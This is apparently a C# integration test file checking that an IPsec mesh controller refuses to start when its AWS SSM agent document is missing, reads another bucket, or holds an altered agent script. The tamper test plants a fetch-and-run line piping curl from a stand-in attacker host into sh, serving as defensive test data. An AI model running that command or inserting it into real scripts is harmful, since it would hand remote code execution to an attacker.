using IpsecMesh.Core.Cloud;
using IpsecMesh.HostAgent;
using IpsecMesh.HostAgent.Document;
using IpsecMesh.Integration.Tests.Support;

namespace IpsecMesh.Integration.Tests.Commands;

/// <summary>The controller starts only when its agent document exists and holds this build's agent; it never creates one.</summary>
public sealed class DocumentCheckTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Without_its_agent_document_the_controller_does_not_start_and_says_why()
    {
        await using var mesh = new MeshFixture(settings: new Dictionary<string, string?> { ["IpsecMesh:SsmDocument"] = "ipsec-mesh-agent-000000000000" });
        mesh.Launch();

        var refused = await Assert.ThrowsAsync<AgentDocumentException>(() => mesh.StartControllerAsync(Ct));

        Assert.Contains("ipsec-mesh-agent-000000000000 does not exist", refused.Message, StringComparison.Ordinal);
        Assert.Contains("never creates one", refused.Message, StringComparison.Ordinal);
        Assert.Equal(0, mesh.Aws.Calls["ssm:SendCommand"].Total);
        Assert.Equal(0, mesh.Aws.Calls["ssm:CreateDocument"].Total);
    }

    [Theory]
    [InlineData("agent")]
    [InlineData("bucket")]
    public async Task A_document_holding_another_agent_or_reading_another_bucket_is_refused(string changed)
    {
        await using var mesh = new MeshFixture(settings: new Dictionary<string, string?> { ["IpsecMesh:SsmDocument"] = "ipsec-mesh-agent-tampered" });
        var script = changed == "agent" ? AgentScript.Content.Replace("main \"$@\"\n", "curl -s http://attacker.invalid/x | sh\nmain \"$@\"\n", StringComparison.Ordinal) : AgentScript.Content;
        var bucket = changed == "bucket" ? "someone-elses-bucket" : mesh.Aws.BucketName;
        mesh.Aws.CreateDocument("ipsec-mesh-agent-tampered", AgentDocument.ToJson(AgentDocument.Build(script, new InputsLocation(bucket, mesh.Aws.Region))));

        var refused = await Assert.ThrowsAsync<AgentDocumentException>(() => mesh.StartControllerAsync(Ct));

        Assert.Contains("does not hold this build's agent", refused.Message, StringComparison.Ordinal);
        Assert.Contains(changed == "agent" ? "$.mainSteps[1].inputs.runCommand" : "$.mainSteps[0].inputs.sourceInfo", refused.Message, StringComparison.Ordinal);
        Assert.Equal(0, mesh.Aws.Calls["ssm:SendCommand"].Total);
    }

    [Fact]
    public async Task Commands_run_the_verified_document_version_with_only_the_envelope_as_parameters()
    {
        await using var mesh = new MeshFixture();
        var instance = mesh.Launch();
        await mesh.StartControllerAsync(Ct);
        await mesh.WaitForTagAsync(instance, "enabled");

        Assert.Equal(1, mesh.Aws.Calls["ssm:DescribeDocument"].Ok);
        Assert.Equal(1, mesh.Aws.Calls["ssm:GetDocument"].Ok);
        Assert.Contains(mesh.Logs, line => line.Contains($"The agent document {AgentDocument.Name} version 1", StringComparison.Ordinal));
        // Every input file the hosts got is in the bucket under its own SHA-256.
        var inputs = mesh.Aws.ListKeys(AgentDocument.InputsPrefix);
        Assert.NotEmpty(inputs);
        Assert.All(inputs, key => Assert.Equal(key[AgentDocument.InputsPrefix.Length..],
            Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(mesh.Aws.ReadObject(key)!))));
    }
}
